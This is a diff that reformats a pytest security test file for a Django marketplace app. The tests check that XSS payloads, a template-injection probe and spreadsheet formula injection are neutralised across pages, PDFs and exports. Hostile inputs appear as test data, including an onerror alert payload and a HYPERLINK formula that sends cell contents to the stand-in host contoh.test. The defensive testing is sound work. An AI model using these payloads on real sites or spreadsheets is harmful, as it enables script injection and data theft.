@@ -38,10 +38,12 @@ def elements(html: str):
 
 def assert_inert(html: str, where: str):
     assert SCRIPT not in html, where
-    assert "<img src=x" not in html and "<img src=\"x\"" not in html, where
+    assert "<img src=x" not in html and '<img src="x"' not in html, where
     injected = [
-        el for el in elements(html)
-        if (el.tag == "img" and el.get("src") == "x") or any(a.startswith("on") for a in el.attrib)
+        el
+        for el in elements(html)
+        if (el.tag == "img" and el.get("src") == "x")
+        or any(a.startswith("on") for a in el.attrib)
         or (el.tag == "script" and "alert(1)" in (el.text or "") and el.get("type") != "application/ld+json")
     ]
     assert injected == [], where
@@ -64,8 +66,16 @@ def hostile(unit_tree, make_category, make_product, make_image, make_upload):
     save_unit(unit)
     category = make_category(f"Anyaman {XSS}", description=XSS)
     product = make_product(
-        unit=unit, category=category, name=f"Tas {XSS}", short_description=XSS, description=f"{XSS}\n\n{IMG}",
-        story=XSS, workshop_credit=f"Bengkel {SCRIPT}"[:80], sale_unit="{{7*7}}<b>", sku="XSS-1", stock_quantity=0,
+        unit=unit,
+        category=category,
+        name=f"Tas {XSS}",
+        short_description=XSS,
+        description=f"{XSS}\n\n{IMG}",
+        story=XSS,
+        workshop_credit=f"Bengkel {SCRIPT}"[:80],
+        sale_unit="{{7*7}}<b>",
+        sku="XSS-1",
+        stock_quantity=0,
     )
     add_photo(product, make_upload(make_image("PNG", size=(200, 200))), XSS)
     location = create_location(unit, f"Galeri {SCRIPT}", kind=LocationKind.GALLERY, is_sellable=True)
@@ -87,8 +97,14 @@ def test_javascript_urls_are_refused_for_the_unit_map(unit_tree):
 def test_public_pages_show_the_payloads_as_text(client, hostile):
     product = hostile
     pages = [
-        "/", "/produk/", product.get_absolute_url(), product.unit.get_absolute_url(), product.category.get_absolute_url(),
-        "/dampak/", f"/cari/?q={SCRIPT}", "/cari/?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
+        "/",
+        "/produk/",
+        product.get_absolute_url(),
+        product.unit.get_absolute_url(),
+        product.category.get_absolute_url(),
+        "/dampak/",
+        f"/cari/?q={SCRIPT}",
+        "/cari/?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
     ]
     for path in pages:
         response = client.get(path)
@@ -116,7 +132,9 @@ def test_the_share_preview_and_json_ld_cannot_break_out(client, hostile):
 @pytest.fixture
 def order_with_payloads(hostile, unit_tree):
     unit = hostile.unit
-    choice = orders.UnitChoice(unit.pk, "antar", "transfer", kecamatan="sirimau", kelurahan=XSS[:60], street=XSS, delivery_notes=XSS)
+    choice = orders.UnitChoice(
+        unit.pk, "antar", "transfer", kecamatan="sirimau", kelurahan=XSS[:60], street=XSS, delivery_notes=XSS
+    )
     unit.bank_name, unit.bank_account_number, unit.bank_account_name = "Bank Maluku", "1234567890", XSS[:120]
     save_unit(unit)
     result = orders.place_checkout(
@@ -142,8 +160,13 @@ def staff_client(make_staff, role, unit):
 def test_console_pages_show_buyer_and_product_payloads_as_text(hostile, order_with_payloads, make_staff, unit_tree):
     client = staff_client(make_staff, Role.UNIT_ADMIN, unit_tree.lapas)
     pages = [
-        "/petugas/", "/petugas/produk/", f"/petugas/produk/{hostile.pk}/", "/petugas/produk/persetujuan/",
-        "/petugas/pesanan/", f"/petugas/pesanan/{order_with_payloads.pk}/", "/petugas/stok/",
+        "/petugas/",
+        "/petugas/produk/",
+        f"/petugas/produk/{hostile.pk}/",
+        "/petugas/produk/persetujuan/",
+        "/petugas/pesanan/",
+        f"/petugas/pesanan/{order_with_payloads.pk}/",
+        "/petugas/stok/",
     ]
     for path in pages:
         response = client.get(path)
@@ -165,7 +188,7 @@ def test_pdfs_show_the_payloads_as_plain_text(order_with_payloads):
 
 
 def test_xlsx_and_csv_exports_neutralise_formulas(hostile, make_staff, unit_tree):
-    hostile.name = "=HYPERLINK(\"http://contoh.test/?\"&A1,\"klik\")"
+    hostile.name = '=HYPERLINK("http://contoh.test/?"&A1,"klik")'
     hostile.short_description = "+1+2"
     hostile.workshop_credit = "@SUM(A1:A2)"
     hostile.sale_unit = "-2+3"
@@ -175,7 +198,7 @@ def test_xlsx_and_csv_exports_neutralise_formulas(hostile, make_staff, unit_tree
     assert response.status_code == 200
     workbook = openpyxl.load_workbook(io.BytesIO(response_bytes(response)))
     values = [cell.value for row in workbook.active.iter_rows() for cell in row if isinstance(cell.value, str)]
-    assert "'=HYPERLINK(\"http://contoh.test/?\"&A1,\"klik\")" in values
+    assert '\'=HYPERLINK("http://contoh.test/?"&A1,"klik")' in values
     assert not [v for v in values if v.startswith(("=", "+", "-", "@"))]
     csv = client.get("/petugas/produk/ekspor/?format=csv")
     text = b"".join(csv.streaming_content).decode() if csv.streaming else csv.content.decode()
